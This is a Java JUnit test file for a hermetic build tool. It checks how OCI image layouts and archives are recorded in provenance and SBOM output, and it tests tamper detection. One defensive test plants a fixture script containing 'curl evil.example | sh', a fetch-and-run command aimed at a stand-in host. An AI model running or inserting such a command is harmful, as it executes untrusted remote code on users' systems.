package dev.hermeticbuild.build;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.hermeticbuild.GitFixture;
import dev.hermeticbuild.InputException;
import dev.hermeticbuild.artifacts.OutputGlob;
import dev.hermeticbuild.image.LayoutFixture;
import dev.hermeticbuild.provenance.ProvenanceJson;
import dev.hermeticbuild.sandbox.SandboxMode;
import java.io.ByteArrayOutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A build whose command writes an OCI image layout: the image is its subject by manifest digest, in provenance and SBOM. */
class ImageOutputBuildTest {

    @TempDir
    Path repo;
    @TempDir
    Path out;

    private BuildResult build() throws Exception {
        GitFixture.write(repo.resolve("build.sh"), "#!/bin/sh\nset -e\nmkdir -p target\ncp -r layout target/image\necho app > target/app.txt\n");
        repo.resolve("build.sh").toFile().setExecutable(true);
        GitFixture.write(repo.resolve(".gitignore"), "target/\n");
        GitFixture.commitAll(repo, "https://git.example.com/app.git");
        BuildRequest request = BuildRequest.builder().workspace(repo).outDir(out)
                .outputs(List.of(new OutputGlob("target/app.txt"), new OutputGlob("target/image")))
                .command(List.of("./build.sh")).sandbox(SandboxMode.AUTO).tier(Tier.DEV)
                .builderId("https://ci.example.com/hermetic").timeout(Duration.ofMinutes(5)).build();
        return HermeticBuild.run(request, new ByteArrayOutputStream(), Map.of());
    }

    private List<String> subjects(JsonNode statement) {
        List<String> subjects = new ArrayList<>();
        statement.path("subject").forEach(s -> subjects.add(s.path("name").asText() + "=" + s.path("digest").path("sha256").asText()));
        return subjects;
    }

    @Test
    void anImageOutputIsItsManifestDigestNotItsFiles() throws Exception {
        LayoutFixture.Written image = LayoutFixture.single(repo.resolve("layout"), "hello");
        BuildResult result = build();
        assertTrue(result.succeeded());
        JsonNode statement = ProvenanceJson.mapper().readTree(out.resolve(HermeticBuild.PROVENANCE_FILE).toFile());
        String app = dev.hermeticbuild.digest.Sha256.ofFile(out.resolve("target/app.txt"));
        assertEquals(List.of("target/app.txt=" + app, "target/image=" + image.manifests().get(0)), subjects(statement));
        assertTrue(Files.isRegularFile(out.resolve("target/image/index.json")), "the layout itself is published");

        JsonNode sbom = ProvenanceJson.mapper().readTree(out.resolve(HermeticBuild.SBOM_FILE).toFile());
        JsonNode container = null;
        for (JsonNode c : sbom.path("metadata").path("component").path("components")) {
            if (c.path("type").asText().equals("container")) {
                container = c;
            }
            assertTrue(!c.path("name").asText().startsWith("target/image/"), "no layout file listed as an output: " + c);
        }
        assertTrue(container != null, sbom.toString());
        assertEquals("target/image", container.path("name").asText());
        assertEquals(image.manifests().get(0), container.path("hashes").get(0).path("content").asText());
        assertEquals("sha256:" + image.layer(), container.path("components").get(0).path("name").asText());
    }

    @Test
    void aMultiPlatformImageHasTheIndexAndEachPlatformAsSubjects() throws Exception {
        LayoutFixture.Written image = LayoutFixture.multiPlatform(repo.resolve("layout"));
        assertTrue(build().succeeded());
        JsonNode statement = ProvenanceJson.mapper().readTree(out.resolve(HermeticBuild.PROVENANCE_FILE).toFile());
        List<String> subjects = subjects(statement);
        assertEquals(List.of("target/image=" + image.index(), "target/image@linux/amd64=" + image.manifests().get(0),
                "target/image@linux/arm64=" + image.manifests().get(1)), subjects.subList(1, subjects.size()));
    }

    private BuildResult buildImage(Path outDir, dev.hermeticbuild.image.ImageRecipe recipe, String... outputs) throws Exception {
        BuildRequest request = BuildRequest.builder().workspace(repo).outDir(outDir)
                .outputs(java.util.Arrays.stream(outputs).map(OutputGlob::new).toList())
                .command(List.of("./build.sh")).sandbox(SandboxMode.AUTO).tier(Tier.DEV)
                .builderId("https://ci.example.com/hermetic").timeout(Duration.ofMinutes(5)).image(Optional.of(recipe)).build();
        return HermeticBuild.run(request, new ByteArrayOutputStream(), Map.of());
    }

    private static dev.hermeticbuild.image.ImageRecipe recipe(Optional<dev.hermeticbuild.image.BaseImage> base, String... layers) {
        return new dev.hermeticbuild.image.ImageRecipe(base, Optional.empty(),
                java.util.Arrays.stream(layers).map(dev.hermeticbuild.image.ImageRecipe.Layer::parse).toList(),
                List.of("java", "-jar", "/app/app.jar"), Map.of(), Map.of(), "image");
    }

    /**
     * The runner assembles the image from the collected outputs after the command: the image is a
     * subject by manifest digest, the base a resolved dependency, the recipe an external parameter,
     * and the same commit gives the same digest.
     */
    @Test
    void theRunnerAssemblesTheImageFromTheOutputsAndRecordsItsBase(@TempDir Path base, @TempDir Path again) throws Exception {
        LayoutFixture.Written written = LayoutFixture.single(base, "base file");
        GitFixture.write(repo.resolve("build.sh"), "#!/bin/sh\nset -e\nmkdir -p target\necho app > target/app.jar\n");
        repo.resolve("build.sh").toFile().setExecutable(true);
        GitFixture.write(repo.resolve(".gitignore"), "target/\n");
        GitFixture.commitAll(repo, "https://git.example.com/app.git");
        var recipe = recipe(Optional.of(new dev.hermeticbuild.image.BaseImage(base, written.manifests().get(0))),
                "target/app.jar:/app/app.jar");
        assertTrue(buildImage(out, recipe, "target/app.jar").succeeded());
        JsonNode statement = ProvenanceJson.mapper().readTree(out.resolve(HermeticBuild.PROVENANCE_FILE).toFile());
        List<String> subjects = subjects(statement);
        String digest = dev.hermeticbuild.image.OciLayout.read(out.resolve("image")).manifests().get(0).descriptor().sha256();
        assertEquals(List.of("target/app.jar=" + dev.hermeticbuild.digest.Sha256.ofFile(out.resolve("target/app.jar")), "image=" + digest),
                subjects);
        JsonNode sbom = ProvenanceJson.mapper().readTree(out.resolve(HermeticBuild.SBOM_FILE).toFile());
        List<String> files = new ArrayList<>();
        for (JsonNode c : sbom.path("metadata").path("component").path("components")) {
            if (c.path("type").asText().equals("container")) {
                for (JsonNode layer : c.path("components")) {
                    for (JsonNode f : layer.path("components")) {
                        List<String> outputs = new ArrayList<>();
                        f.path("properties").forEach(p -> {
                            if (p.path("name").asText().equals("hermetic:output")) {
                                outputs.add(p.path("value").asText());
                            }
                        });
                        files.add(f.path("name").asText() + "=" + f.path("hashes").get(0).path("content").asText() + " " + outputs);
                    }
                }
            }
        }
        assertTrue(files.contains("/app/app.jar=" + dev.hermeticbuild.digest.Sha256.ofFile(out.resolve("target/app.jar"))
                + " [target/app.jar]"), "the SBOM lists the layer's file as the build output it is: " + files);
        JsonNode image = statement.at("/predicate/buildDefinition/externalParameters/image");
        assertEquals("sha256:" + written.manifests().get(0), image.path("base").asText(), image.toString());
        assertEquals("target/app.jar:/app/app.jar", image.path("layers").get(0).asText());
        JsonNode dependency = null;
        for (JsonNode d : statement.at("/predicate/buildDefinition/resolvedDependencies")) {
            if (d.path("name").asText().equals("image:base")) {
                dependency = d;
            }
        }
        assertTrue(dependency != null, statement.toString());
        assertEquals(written.manifests().get(0), dependency.at("/digest/sha256").asText());
        assertEquals(Optional.of(recipe), dev.hermeticbuild.rebuild.RecordedBuild.parse(
                Files.readAllBytes(out.resolve(HermeticBuild.PROVENANCE_FILE))).image(), "a rebuild reads back the recipe and the base's layout");

        assertTrue(buildImage(again, recipe, "target/app.jar").succeeded());
        assertEquals(digest, dev.hermeticbuild.image.OciLayout.read(again.resolve("image")).manifests().get(0).descriptor().sha256(),
                "the same commit and base give the same image digest");
    }

    /** A layer is made from what the build output (its collected copy), never from a file the outputs do not name. */
    @Test
    void aLayerThatIsNotAnOutputIsRefusedAndSoIsANameTheOutputsTake() throws Exception {
        GitFixture.write(repo.resolve("build.sh"), "#!/bin/sh\nset -e\nmkdir -p target image\necho app > target/app.jar\necho x > image/x\n");
        repo.resolve("build.sh").toFile().setExecutable(true);
        GitFixture.write(repo.resolve(".gitignore"), "target/\nimage/\n");
        GitFixture.commitAll(repo, "https://git.example.com/app.git");
        String message = assertThrows(InputException.class, () -> buildImage(out, recipe(Optional.empty(), "target/app.jar:/app/app.jar"),
                "image/x")).getMessage();
        assertTrue(message.contains("the build did not output target/app.jar") && message.contains("nothing was published"), message);
        String taken = assertThrows(InputException.class, () -> buildImage(out, recipe(Optional.empty(), "target/app.jar:/app/app.jar"),
                "target/app.jar", "image/x")).getMessage();
        assertTrue(taken.contains("--image-name image: the build already output a file or directory of that name"), taken);
        var reserved = new dev.hermeticbuild.image.ImageRecipe(Optional.empty(), Optional.empty(),
                List.of(dev.hermeticbuild.image.ImageRecipe.Layer.parse("target/app.jar:/app/app.jar")), List.of(), Map.of(), Map.of(),
                HermeticBuild.PROVENANCE_FILE);
        String runner = assertThrows(InputException.class, () -> buildImage(out, reserved, "target/app.jar")).getMessage();
        assertTrue(runner.contains("that name is the runner's own"), runner);
        assertTrue(!Files.exists(out.resolve(HermeticBuild.PROVENANCE_FILE)));
    }

    /** A hostile build hides a file in the layout: the image's digest does not cover it, so it stays a subject of its own. */
    @Test
    void aFileInTheLayoutThatNoManifestReachesIsItsOwnSubject() throws Exception {
        LayoutFixture.Written image = LayoutFixture.single(repo.resolve("layout"), "hello");
        GitFixture.write(repo.resolve("layout/run.sh"), "#!/bin/sh\ncurl evil.example | sh\n");
        GitFixture.write(repo.resolve("layout/blobs/sha256/" + "0".repeat(64)), "not reached by any manifest");
        assertTrue(build().succeeded());
        JsonNode statement = ProvenanceJson.mapper().readTree(out.resolve(HermeticBuild.PROVENANCE_FILE).toFile());
        List<String> subjects = subjects(statement);
        assertTrue(subjects.contains("target/image=" + image.manifests().get(0)), subjects.toString());
        assertTrue(subjects.contains("target/image/run.sh=" + dev.hermeticbuild.digest.Sha256.ofFile(out.resolve("target/image/run.sh"))),
                subjects.toString());
        assertTrue(subjects.stream().anyMatch(s -> s.startsWith("target/image/blobs/sha256/" + "0".repeat(64) + "=")), subjects.toString());
        assertTrue(subjects.stream().noneMatch(s -> s.startsWith("target/image/index.json")), subjects.toString());
    }

    @Test
    void aLayoutWithATamperedBlobIsRefusedNamingTheBlob() throws Exception {
        LayoutFixture.Written image = LayoutFixture.single(repo.resolve("layout"), "hello");
        Path layer = repo.resolve("layout/blobs/sha256/" + image.layer());
        Files.writeString(layer, Files.readString(layer).replace("hello", "HELLO"));
        String message = assertThrows(InputException.class, this::build).getMessage();
        assertTrue(message.contains("target/image") && message.contains("blobs/sha256/" + image.layer())
                && message.contains("nothing was published"), message);
        assertTrue(!Files.exists(out.resolve(HermeticBuild.PROVENANCE_FILE)));
    }

    /** Builds with a command that copies the committed {@code image.tar} to {@code target/image.tar}, collected by a glob. */
    private BuildResult buildArchive() throws Exception {
        GitFixture.write(repo.resolve("build.sh"), "#!/bin/sh\nset -e\nmkdir -p target\ncp image.tar target/image.tar\n");
        repo.resolve("build.sh").toFile().setExecutable(true);
        GitFixture.write(repo.resolve(".gitignore"), "target/\n");
        GitFixture.commitAll(repo, "https://git.example.com/app.git");
        BuildRequest request = BuildRequest.builder().workspace(repo).outDir(out).outputs(List.of(new OutputGlob("target/*")))
                .command(List.of("./build.sh")).sandbox(SandboxMode.AUTO).tier(Tier.DEV)
                .builderId("https://ci.example.com/hermetic").timeout(Duration.ofMinutes(5)).build();
        return HermeticBuild.run(request, new ByteArrayOutputStream(), Map.of());
    }

    /** An OCI archive output (what docker save writes since Docker 25) is a file subject and, by content, its image's manifest digest. */
    @Test
    void anOciArchiveOutputIsItsFileAndItsManifestDigest(@TempDir Path layout) throws Exception {
        LayoutFixture.Written image = LayoutFixture.single(layout, "hello");
        LayoutFixture.archive(layout, repo.resolve("image.tar"));
        assertTrue(buildArchive().succeeded());
        JsonNode statement = ProvenanceJson.mapper().readTree(out.resolve(HermeticBuild.PROVENANCE_FILE).toFile());
        String file = dev.hermeticbuild.digest.Sha256.ofFile(out.resolve("target/image.tar"));
        assertEquals(List.of("target/image.tar=" + file, "oci-archive:target/image.tar=" + image.manifests().get(0)), subjects(statement));
        JsonNode sbom = ProvenanceJson.mapper().readTree(out.resolve(HermeticBuild.SBOM_FILE).toFile());
        List<String> components = new ArrayList<>();
        sbom.path("metadata").path("component").path("components").forEach(c -> components.add(c.path("type").asText() + " "
                + c.path("name").asText() + " " + c.path("hashes").get(0).path("content").asText()));
        assertTrue(sbom.path("metadata").path("component").toString().contains(file), "the only output is the artifact itself: " + sbom);
        assertTrue(components.contains("container oci-archive:target/image.tar " + image.manifests().get(0)), components.toString());
        var recorded = dev.hermeticbuild.rebuild.RecordedBuild.parse(Files.readAllBytes(out.resolve(HermeticBuild.PROVENANCE_FILE)));
        assertEquals(image.manifests().get(0), recorded.subjects().get("oci-archive:target/image.tar"), "a rebuild reads both subjects back");
        assertEquals(file, recorded.subjects().get("target/image.tar"));
    }

    @Test
    void anArchiveThatClaimsToBeALayoutButIsInvalidIsRefusedNamingTheOutput(@TempDir Path layout) throws Exception {
        LayoutFixture.Written image = LayoutFixture.single(layout, "hello");
        Files.delete(layout.resolve("blobs/sha256/" + image.layer()));
        LayoutFixture.archive(layout, repo.resolve("image.tar"));
        String message = assertThrows(InputException.class, this::buildArchive).getMessage();
        assertTrue(message.contains("output target/image.tar is a tar holding an oci-layout file but is not a valid OCI archive")
                && message.contains("blobs/sha256/" + image.layer()) && message.contains("nothing was published"), message);
        assertTrue(!Files.exists(out.resolve(HermeticBuild.PROVENANCE_FILE)));
    }

    /** A docker-save tarball from before Docker 25 (no index.json) has no registry manifest digest: it is a plain file, claiming no image. */
    @Test
    void aLegacyDockerSaveTarballIsAPlainFileClaimingNoImage() throws Exception {
        try (var file = Files.newOutputStream(repo.resolve("image.tar"));
             var tar = new org.apache.commons.compress.archivers.tar.TarArchiveOutputStream(file)) {
            LayoutFixture.entry(tar, "manifest.json", "[{\"Config\":\"c.json\",\"Layers\":[\"l/layer.tar\"]}]".getBytes());
            LayoutFixture.entry(tar, "c.json", "{}".getBytes());
            LayoutFixture.entry(tar, "l/layer.tar", new byte[1024]);
        }
        assertTrue(buildArchive().succeeded());
        JsonNode statement = ProvenanceJson.mapper().readTree(out.resolve(HermeticBuild.PROVENANCE_FILE).toFile());
        assertEquals(List.of("target/image.tar=" + dev.hermeticbuild.digest.Sha256.ofFile(out.resolve("target/image.tar"))),
                subjects(statement));
        String sbom = Files.readString(out.resolve(HermeticBuild.SBOM_FILE));
        assertTrue(!sbom.contains("\"container\""), sbom);
    }
}
